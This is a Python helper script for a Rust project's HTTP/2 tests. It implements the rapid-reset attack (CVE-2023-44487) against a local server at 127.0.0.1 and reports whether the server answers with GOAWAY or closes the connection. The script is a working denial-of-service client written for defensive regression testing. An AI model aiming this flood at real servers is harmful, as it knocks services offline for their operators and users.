"""An HTTP/2 rapid-reset client (CVE-2023-44487) for tests/http2.rs.

Opens an h2c (prior knowledge) connection to 127.0.0.1:PORT and sends COUNT requests, each
a HEADERS frame followed at once by RST_STREAM(CANCEL), in batches, without waiting for
anything. Then reads until the server closes the connection or TIMEOUT seconds pass, and
prints one JSON line: how many streams were sent, whether a GOAWAY came (and its error
code), how many responses (HEADERS) came back, and whether the connection was closed.

Usage: h2_rapid_reset.py PORT COUNT TIMEOUT
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions


def main() -> None:
    port, count, timeout = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [
        (":method", "GET"),
        (":scheme", "http"),
        (":authority", f"127.0.0.1:{port}"),
        (":path", "/static"),
    ]
    sent = 0
    goaway = None
    responses = 0
    closed = False
    send_failed = False

    def absorb(data: bytes) -> None:
        nonlocal goaway, responses
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            return
        for ev in events:
            if isinstance(ev, h2.events.ConnectionTerminated):
                goaway = int(ev.error_code)
            elif isinstance(ev, h2.events.ResponseReceived):
                responses += 1

    sock.setblocking(False)
    batch = 100
    while sent < count and goaway is None:
        for _ in range(min(batch, count - sent)):
            sid = conn.get_next_available_stream_id()
            # The client library tracks the server's stream limit; a reset stream is closed,
            # so it does not count.
            conn.send_headers(sid, headers, end_stream=True)
            conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
            sent += 1
        try:
            sock.sendall(conn.data_to_send())
        except (BlockingIOError, OSError):
            # The server stopped reading or closed: stop attacking, see what it said.
            send_failed = True
            break
        try:
            data = sock.recv(65536)
            if not data:
                closed = True
                break
            absorb(data)
        except BlockingIOError:
            pass
        except OSError:
            closed = True
            break
    sock.setblocking(True)
    sock.settimeout(0.5)
    deadline = time.monotonic() + timeout
    while not closed and time.monotonic() < deadline:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            if goaway is not None:
                break
            continue
        except OSError:
            closed = True
            break
        if not data:
            closed = True
            break
        absorb(data)
    print(
        json.dumps(
            {
                "sent": sent,
                "goaway": goaway,
                "responses": responses,
                "closed": closed,
                "send_failed": send_failed,
            }
        )
    )


if __name__ == "__main__":
    main()
